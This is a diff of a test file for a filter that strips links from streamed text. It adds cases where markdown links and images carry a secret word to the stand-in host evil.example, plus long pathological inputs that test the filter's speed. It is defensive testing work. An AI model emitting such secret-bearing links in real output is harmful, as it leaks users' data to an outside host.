@@ -29,6 +29,8 @@ const FRAGMENTS = [
   "https://evil。example/y",
   "https://evil.example/(a)b)",
   "](",
+  "]( ",
+  "]: ",
   "](<",
   "![",
   "[t]",
@@ -129,9 +131,30 @@ describe("the filter of links", () => {
     ["详见https://evil.example/a。谢谢", `详见${NOTE}。谢谢`],
     ["`https://evil.example/a`", `\`${NOTE}\``],
     ["| https://evil.example/a| b |", `| ${NOTE}| b |`],
+    ["[x](https://evil.example/?q=|swordfish)", `[x] (${NOTE})`],
+    ['![x](https://evil.example/?q="swordfish)', `![x] (${NOTE})`],
+    ["[x]( https://evil.example/?q=，swordfish)", `[x] (${NOTE})`],
+    ["[x](https://evil.example/((((|swordfish))))", `[x] (${NOTE}`],
+    ["[d]: https://evil.example/?q=|swordfish\n", `[d]: ${NOTE}\n`],
+    ["See https://evil.example/?q=|swordfish.", `See ${NOTE}.`],
+    ["https://evil。中国/?q=swordfish", NOTE],
+    ["|https://evil.example/a|", `|${NOTE}|`],
     ["[https://evil.example/a](https://evil.example/b)", `[${NOTE}] (${NOTE})`],
   ])("makes of %j no link: %j", (written, shown) => {
     expect(withhold(written)).toBe(shown);
+  });
+
+  it.each([
+    `${".".repeat(3_970)}![](https://evil.example/?q=swordfish)`,
+    `.${"中".repeat(3_970)}![](https://evil.example/?q=${"a".repeat(10)}swordfish)`,
+    `<a href="https://evil.example/?q=${"b".repeat(1_960)}swordfish">`,
+    `[x](https://evil.example/?q=${"b".repeat(3_990)}swordfish)`,
+  ])("shows no beginning of an address that is cut: %#", (written) => {
+    const isWithheld = (address: string) => address.includes("swordfish");
+    for (const size of [written.length, 1, 9]) {
+      const cut = written.match(new RegExp(`[^]{1,${size}}`, "g")) ?? [];
+      expect(filter(cut, isWithheld).join("")).not.toContain("evil.example");
+    }
   });
 
   it("passes words on as they come: only the last one waits", () => {
@@ -165,6 +188,14 @@ describe("the filter of links", () => {
     "https://a/" + ").".repeat(300_000) + "x",
     "](".repeat(300_000),
     "。".repeat(500_000),
+    "](".concat("(".repeat(300_000)),
+    "](https://a".concat("(a".repeat(150_000)),
+    "](".concat(" ".repeat(300_000)),
+    "](a(".repeat(100_000),
+    "]: ".repeat(150_000),
+    'a.b"c|'.repeat(100_000),
+    "。a".repeat(200_000),
+    "//a。".repeat(100_000),
   ])("takes time in proportion to what it reads: %#", (hostile) => {
     const start = performance.now();
     filter([hostile], () => false);
